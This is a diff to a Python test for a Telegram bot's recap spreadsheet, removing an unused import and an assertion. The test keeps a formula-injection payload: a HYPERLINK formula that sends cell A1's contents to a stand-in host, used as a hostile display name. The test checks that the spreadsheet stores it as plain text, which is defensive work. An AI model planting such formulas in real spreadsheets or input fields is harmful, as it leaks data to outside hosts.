@@ -20,7 +20,6 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from bot.cli import main
 from tests.bot.test_telegram import GetRuntime, register
-from tests.conftest import TelegramUser
 from tests.fakes.botapi import FakeBotApi
 
 FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"klik")'
@@ -88,7 +87,6 @@ async def test_recap_spreadsheet_writes_a_display_name_as_text(
     runtime = telegram()
     await register(bot_api, runtime, 41, name=FORMULA)  # a kader who has not reported yet
     ketua = await register(bot_api, runtime, 42, role="ketua", unit=None)
-    assert isinstance(ketua, TelegramUser)
     sent = await ketua.say_expecting("/rekap", 3)
     [document] = [s for s in sent if s.kind == "document"]
     book = openpyxl.load_workbook(io.BytesIO(document.file_data))
